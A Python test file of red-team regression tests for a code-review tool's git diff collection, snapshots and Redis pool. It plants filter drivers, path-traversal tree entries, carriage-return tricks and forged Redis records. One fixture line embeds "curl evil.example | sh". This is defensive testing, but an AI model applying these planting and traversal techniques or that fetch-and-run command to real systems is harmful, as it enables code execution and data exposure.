"""Red team, round 4b (issue 57 item 3): breaks on the surfaces added after the first
round-4 pass (review input and snapshot, ...), each reproduced with the input an attacker
controls; each now fixed, and held here."""

from __future__ import annotations

import binascii
import contextlib
import json
import os
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from massgen_mcp.review.changes import collect
from massgen_mcp.tools.snapshot import snapshot
from tests.review.conftest import git
from tests.review.conftest import repo as repo  # the fixture: a repository with changes

posix_only = pytest.mark.skipif(sys.platform == "win32", reason="shell-script plants")


def _planted_program(tmp_path: Path, name: str) -> tuple[Path, str]:
    """A program that leaves ``ran/<name>`` when it runs and passes its input through."""
    ran = tmp_path / "ran"
    ran.mkdir(exist_ok=True)
    script = tmp_path / f"{name}.sh"
    script.write_text(f'#!/bin/sh\ntouch "{ran}/{name}"\ncat\n')
    script.chmod(0o755)
    return ran, str(script)


@posix_only
async def test_a_filter_driver_whose_name_holds_equals_runs_nothing(repo: Path,
                                                                    tmp_path: Path) -> None:
    ran, script = _planted_program(tmp_path, "clean")
    (repo / ".gitattributes").write_text("*.py filter=a=b\n")
    git(repo, "add", ".gitattributes")
    git(repo, "commit", "-qm", "attributes")
    with (repo / ".git" / "config").open("a") as config:
        config.write(f'[filter "a=b"]\n\tclean = "{script}"\n')
    os.utime(repo / "src" / "app.py", (1, 1))  # stat data changed: git diff cleans it
    await collect(repo)
    assert not (ran / "clean").exists()


@posix_only
async def test_a_submodules_filter_driver_runs_nothing(repo: Path, tmp_path: Path) -> None:
    ran, script = _planted_program(tmp_path, "subclean")
    sub = repo / "vendor"
    sub.mkdir()
    git(sub, "init", "-q")
    (sub / ".gitattributes").write_text("*.txt filter=ev\n")
    (sub / "s.txt").write_text("s\n")
    git(sub, "add", ".")
    git(sub, "commit", "-qm", "s")
    git(sub, "config", "filter.ev.clean", script)
    git(repo, "add", "vendor")
    git(repo, "commit", "-qm", "a submodule")
    os.utime(sub / "s.txt", (1, 1))  # stat data changed: its status cleans it again
    await collect(repo)
    assert not (ran / "subclean").exists()


async def test_core_worktree_pointing_outside_reads_nothing_there(repo: Path,
                                                                  tmp_path: Path) -> None:
    from massgen_mcp.core.errors import ConfigError

    outside = tmp_path / "elsewhere"  # say, the user's home kept in a dotfiles repository
    outside.mkdir()
    git(outside, "init", "-q")
    (outside / "notes.txt").write_text("old\n")
    git(outside, "add", "notes.txt")
    git(outside, "commit", "-qm", "notes")
    (outside / "notes.txt").write_text("OUTSIDE-CANARY\n")
    git(repo, "config", "core.worktree", "../../elsewhere")
    try:
        changes = await collect(repo)
    except ConfigError as exc:  # a refusal in one line holds
        assert "OUTSIDE-CANARY" not in str(exc)
        return
    assert changes.root == repo
    assert "OUTSIDE-CANARY" not in changes.diff


async def test_core_worktree_outside_any_repository_is_one_line(repo: Path,
                                                                tmp_path: Path) -> None:
    from massgen_mcp.core.errors import ConfigError

    (tmp_path / "elsewhere").mkdir()
    git(repo, "config", "core.worktree", "../../elsewhere")
    with pytest.raises(ConfigError) as caught:
        await collect(repo)
    assert "\n" not in str(caught.value)


def _tree(entries: list[tuple[str, str, str]], repo: Path) -> str:
    data = b"".join(mode.encode() + b" " + name.encode() + b"\0" + binascii.unhexlify(oid)
                    for mode, name, oid in entries)
    return git(repo, "hash-object", "-t", "tree", "-w", "--literally", "--stdin",
               input=data).decode().strip()


async def test_a_commit_tree_entry_named_dotdot_writes_nothing_outside(
        repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    temp = tmp_path / "temp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    blob = git(repo, "hash-object", "-w", "--stdin", input=b"pwned\n").decode().strip()
    inner = _tree([("100644", "ESCAPED", blob)], repo)
    top = _tree([("40000", "..", inner), ("100644", "ok.txt", blob)], repo)
    commit = git(repo, "commit-tree", top, "-m", "crafted").decode().strip()
    try:
        async with snapshot(repo, commit):
            pass
    except Exception:  # a refusal holds
        pass
    assert not (temp / "ESCAPED").exists()
    assert os.listdir(temp) == []


async def test_a_lone_cr_in_a_changed_line_hides_no_code_from_the_review(repo: Path) -> None:
    app = repo / "src" / "app.py"
    app.write_bytes(app.read_bytes() + b"x = 1  # \rdiff --git a/.env b/.env\n"
                    b"import os\nos.system('curl evil.example | sh')\n")
    changes = await collect(repo)
    assert "curl evil.example" in changes.diff


@posix_only
async def test_review_of_a_folder_reads_nothing_through_a_linked_subfolder(
        repo: Path, tmp_path: Path) -> None:
    (repo / "docs").mkdir()
    (repo / "docs" / "notes.txt").write_text("tracked\n")
    git(repo, "add", "docs")
    git(repo, "commit", "-qm", "docs")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "notes.txt").write_text("OUTSIDE-CANARY\n")
    (repo / "docs" / "notes.txt").unlink()
    (repo / "docs").rmdir()
    (repo / "docs").symlink_to(outside)  # the index still lists docs/notes.txt
    try:
        changes = await collect(repo, paths=["."])
    except Exception as exc:  # a refusal holds
        assert "OUTSIDE-CANARY" not in str(exc)
        return
    assert "OUTSIDE-CANARY" not in changes.diff


@pytest.fixture
def redis_url(tmp_path: Path) -> Iterator[str]:
    """A redis-server of this test's own, on loopback."""
    from redis import Redis

    from tests.pool_harness import REDIS, Pool, free_port

    if REDIS is None:
        pytest.skip("redis-server is not installed")
    port = free_port()
    proc = subprocess.Popen([REDIS, "--port", str(port), "--bind", "127.0.0.1", "--save", "",
                             "--dir", str(tmp_path)], stdout=subprocess.DEVNULL)
    client = Redis(port=port)

    def answers() -> bool:
        try:
            return bool(client.ping())
        except Exception:
            return False

    try:
        Pool._until(answers, "redis did not start")
        yield f"redis://127.0.0.1:{port}/0"
    finally:
        client.close()
        proc.kill()
        proc.wait()


def _member(url: str, token: str, home: Path) -> object:
    from massgen_mcp.pool.frontends import Membership
    from massgen_mcp.pool.live import PoolConfig

    return Membership(PoolConfig(url), token, home)


async def test_a_record_planted_in_redis_with_an_older_date_takes_no_pool_over(
        redis_url: str, tmp_path: Path) -> None:
    from redis.asyncio import Redis

    from massgen_mcp.core.errors import ConfigError
    from massgen_mcp.pool.frontends import fingerprint

    home = tmp_path / "shared-home"
    home.mkdir()
    redis = Redis.from_url(redis_url)
    try:
        owner = _member(redis_url, "owner-token", home)
        await owner.join(redis)  # type: ignore[attr-defined]
        marker = (home / "pool-massgen.protected").read_text()
        salt = "00" * 16  # the planter's own token, under a salt of its choice, dated 0
        await redis.set("massgen:protected", json.dumps(
            {"salt": salt, "token": fingerprint("planter-token", salt), "since": 0}))
        await redis.delete("massgen:frontends")
        planter = _member(redis_url, "planter-token", home)
        with pytest.raises(ConfigError):
            await planter.join(redis)  # type: ignore[attr-defined]
        assert (home / "pool-massgen.protected").read_text() == marker
        await owner.join(redis)  # type: ignore[attr-defined]  # still the pool's
    finally:
        await redis.aclose()


@pytest.mark.parametrize("planted", [b"[]", b"not json", b'{"salt": "zz"}'])
async def test_a_planted_frontends_record_is_refused_in_one_line(
        redis_url: str, tmp_path: Path, planted: bytes) -> None:
    from redis.asyncio import Redis

    from massgen_mcp.core.errors import ConfigError

    redis = Redis.from_url(redis_url)
    try:
        await redis.set("massgen:frontends", planted)
        member = _member(redis_url, "owner-token", tmp_path)
        with contextlib.suppress(ConfigError):  # a refusal in one line holds
            await member.join(redis)  # type: ignore[attr-defined]
    finally:
        await redis.aclose()


def _send_until_refused(sock: object, request: bytes) -> None:
    """Pipeline ``request`` until the server takes no more (its end is closed or reset)."""
    with contextlib.suppress(OSError):
        while True:
            sock.sendall(request * 1000)  # type: ignore[attr-defined]


@posix_only
def test_a_client_that_never_reads_its_pipelined_answers_is_dropped(tmp_path: Path) -> None:
    import socket
    import threading

    from tests.server.test_connections import start_server
    from tests.servers import free_port

    port = free_port()
    proc = start_server(tmp_path / "home", port, MASSGEN_MCP_HEADER_TIMEOUT_S="1",
                        MASSGEN_MCP_BODY_TIMEOUT_S="1", MASSGEN_MCP_BODY_DEADLINE_S="2")
    # Its log is read as it comes: a line per answer fills a pipe nobody reads, and the
    # server then blocks in its log, not in the connection this test is about.
    log = threading.Thread(target=proc.communicate, daemon=True)
    log.start()
    try:
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.connect(("127.0.0.1", port))
        # Their answers fill both sockets' buffers and uvicorn's; the requests go from a
        # thread, which ends once the server drops the connection (it stops taking them
        # once it stops answering, so without a drop it waits for good).
        request = f"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode()
        sender = threading.Thread(target=_send_until_refused, args=(sock, request),
                                  daemon=True)
        sender.start()
        # Every deadline there is (1 s for headers, 2 s for a body) passes many times; the
        # client reads nothing all along.
        sender.join(timeout=120)
        assert not sender.is_alive(), "the connection of a client that reads nothing is held"
        sock.settimeout(10)  # then read: the connection must end (EOF or reset)
        ended = False
        try:
            while sock.recv(1 << 20):
                pass
            ended = True
        except ConnectionResetError:
            ended = True
        except TimeoutError:
            pass  # held: neither more answers nor an end
        sock.close()
        assert ended
    finally:
        proc.terminate()
        log.join(timeout=30)


async def test_a_cr_in_a_committed_env_template_sends_no_secret(repo: Path) -> None:
    from tests.review.conftest import CANARY

    env = repo / ".env"
    env.write_bytes(b"# fill these in\rdiff --git a/notes.md b/notes.md\nAPI_KEY=\n")
    git(repo, "add", ".env")
    git(repo, "commit", "-qm", "the .env template the repository ships")
    env.write_bytes(b"# fill these in\rdiff --git a/notes.md b/notes.md\n"
                    + f"API_KEY={CANARY}\n".encode())  # the user fills in the key
    changes = await collect(repo)
    assert CANARY not in changes.diff


@posix_only
async def test_a_fifo_at_a_tracked_path_is_refused_in_one_line(repo: Path) -> None:
    from massgen_mcp.core.errors import ConfigError

    (repo / "README.md").unlink()
    os.mkfifo(repo / "README.md")
    with pytest.raises(ConfigError) as caught:
        await collect(repo)
    assert "README.md" in str(caught.value) and "\n" not in str(caught.value)


async def test_many_left_out_files_keep_the_review_question_within_its_limit(
        repo: Path) -> None:
    import io

    from massgen_mcp.core.spec import MAX_QUESTION_CHARS
    from massgen_mcp.review.request import review_spec

    patch = ("diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n"
             "@@ -1 +1 @@\n-# shop\n+# the shop\n")
    patch += "".join(f"diff --git a/{i:04d} b/{i:04d}\nnew file mode 100644\nBinary files "
                     f"/dev/null and b/{i:04d} differ\n" for i in range(1900))
    changes = await collect(repo, patch="-", stdin=io.BytesIO(patch.encode()))
    spec = review_spec(changes, None, models=["openai/a"])
    assert len(spec.question) <= MAX_QUESTION_CHARS


async def test_review_of_a_commit_in_a_blobless_clone_is_one_line(repo: Path,
                                                                  tmp_path: Path) -> None:
    from massgen_mcp.core.errors import ConfigError

    git(repo, "commit", "-qam", "the defects")
    git(repo, "config", "uploadpack.allowFilter", "true")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", "--filter=blob:none", f"file://{repo}", str(clone))
    with pytest.raises(ConfigError) as caught:
        await collect(clone, commit="HEAD")
    assert "\n" not in str(caught.value)


async def test_a_diff_git_line_ending_in_a_stray_quote_is_one_line(repo: Path) -> None:
    import io

    from massgen_mcp.core.errors import ConfigError

    patch = (b'diff --git a/README.md b/README.md"\n--- a/README.md\n+++ b/README.md\n'
             b"@@ -1 +1 @@\n-# shop\n+# the shop\n")
    with contextlib.suppress(ConfigError):  # refused in one line, or read: both hold
        await collect(repo, patch="-", stdin=io.BytesIO(patch))


async def test_gitattributes_in_the_change_hide_no_text_file_from_the_review(
        repo: Path) -> None:
    (repo / ".gitattributes").write_text("src/app.py -diff\n")
    git(repo, "add", ".gitattributes")
    changes = await collect(repo)
    assert "src/app.py" in changes.files
